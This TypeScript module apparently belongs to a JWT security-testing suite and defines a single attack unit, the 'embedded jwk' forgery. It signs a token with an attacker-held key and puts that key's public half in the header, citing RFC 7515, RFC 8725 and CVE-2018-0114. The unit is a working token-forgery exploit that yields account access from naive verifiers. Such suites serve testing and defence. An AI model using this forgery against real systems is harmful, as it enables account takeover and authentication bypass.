/** The attacker’s own key in the header. Not: an address where it can be had (jku-injection.ts). */
import { document, rfc } from '#sources/sources';
import { sign, withParameters } from '#jose/forgery/header';
import { ATTACKER_PUBLIC_JWK } from '../attacker/attacker-key';
import { forgerHas, noTokenToForge, present } from '../attacker/forged-token';
import { LIBRARIES_TAKE_NO_KEY, NAIVE_VERIFIER_ASSUMED } from '../attacker/assumed';
import type { AttackUnit } from '../attacker/attack';

export default {
  order: 46,
  group: 'forged tokens',
  label: 'Embedded jwk',
  says: 'The attacker signs with their own key, and puts the public key in the header for the verifier.',
  grants: ['an account'],
  sources: [rfc(7515, '4.1.3'), rfc(8725, '3.10'), document('cve-2018-0114')],
  scene: ['log-in', 'read-orders'],
  assumes: [NAIVE_VERIFIER_ASSUMED, LIBRARIES_TAKE_NO_KEY],
  presupposes: { alg: 'EdDSA' },
  inapplicable: noTokenToForge,
  play: async (hands) => {
    const has = await forgerHas(hands);
    if (!has) return;

    const { alg, kid } = ATTACKER_PUBLIC_JWK;
    const header = withParameters(has.header, { alg, kid, jwk: has.own.publicJwk });
    await present(hands, [{ compact: await sign(header, has.payload, alg, has.own.privateKey) }]);
  },
} satisfies AttackUnit;
